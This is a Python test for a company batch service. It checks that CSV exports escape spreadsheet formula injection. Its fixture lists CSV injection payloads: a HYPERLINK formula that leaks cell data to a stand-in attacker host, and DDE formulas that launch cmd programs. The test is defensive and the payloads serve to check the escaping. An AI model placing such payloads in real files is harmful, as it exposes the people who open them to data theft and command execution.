"""No exported CSV cell is a spreadsheet formula, whatever the names and pages held (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import grpc

from company_protos.company.v1 import batch_service_pb2 as pb
from company_protos.company.v1 import batch_service_pb2_grpc as pb_grpc
from company_protos.company.v1 import enums_pb2
from server.testing import ScriptedExtractor, running_service

HOSTILE_NAMES = {
    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")': "hyperlink",
    "@SUM(1+1)*cmd|' /C calc'!A0": "dde",
    "+1+cmd|' /C notepad'!A0": "plus",
    "-2+3+cmd|' /C calc'!A0": "minus",
}
PLAIN = "Plain Company"
PROFILES = {
    name: {"domain": f"{slug}.example", "description": "\t=1+1", "industry": "\r=2+2"}
    for name, slug in HOSTILE_NAMES.items()
}
PROFILES[PLAIN] = {
    "domain": "plain.example",
    "contacts": {"phones": [{"number": "+4930123456"}]},
    "financial_data": {"revenue": "-12.5"},
    "employee_count_exact": 12,
    "description": "Makes =things-that look like formulas only inside the text",
}


NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def is_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a leading trigger on anything but a plain number."""
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"} and not NUMBER.fullmatch(cell)


async def exported_rows(stub: pb_grpc.BatchServiceStub, batch_id: str) -> list[dict[str, str]]:
    body = await stub.ExportResults(pb.ExportResultsRequest(batch_id=batch_id, format="csv"))
    return list(csv.DictReader(io.StringIO(body.data.decode("utf-8"), newline="")))


async def test_csv_export_neutralises_formulas_and_keeps_numbers_and_phones(tmp_path: Path) -> None:
    async with (
        running_service(tmp_path, ScriptedExtractor(profiles=PROFILES)) as service,
        grpc.aio.insecure_channel(service.grpc_target) as channel,
    ):
        stub = pb_grpc.BatchServiceStub(channel)
        submitted = await stub.SubmitBatch(
            pb.SubmitBatchRequest(company_names=[*HOSTILE_NAMES, PLAIN], export_format="csv")
        )
        async for event in stub.WatchBatch(pb.WatchBatchRequest(batch_id=submitted.data.batch_id)):
            status = event.batch.status
        assert status == enums_pb2.completed
        rows = await exported_rows(stub, submitted.data.batch_id)

    by_name = {row["company_name"].removeprefix("'"): row for row in rows}
    assert set(by_name) == {*HOSTILE_NAMES, PLAIN}
    for row in rows:
        assert [cell for cell in row.values() if is_formula(cell)] == []
    for name in HOSTILE_NAMES:
        row = by_name[name]
        assert row["company_name"] == "'" + name  # the value itself is kept, after the guard
        assert row["description"] == "'\t=1+1"
        assert row["industry"] == "'\r=2+2"
    plain = by_name[PLAIN]
    assert plain["company_name"] == PLAIN
    assert plain["phone"] == "+4930123456"  # an E.164 number is a number to a spreadsheet: kept
    assert plain["revenue"] == "-12.5"
    assert plain["employee_count_exact"] == "12"
    assert plain["description"] == PROFILES[PLAIN]["description"]
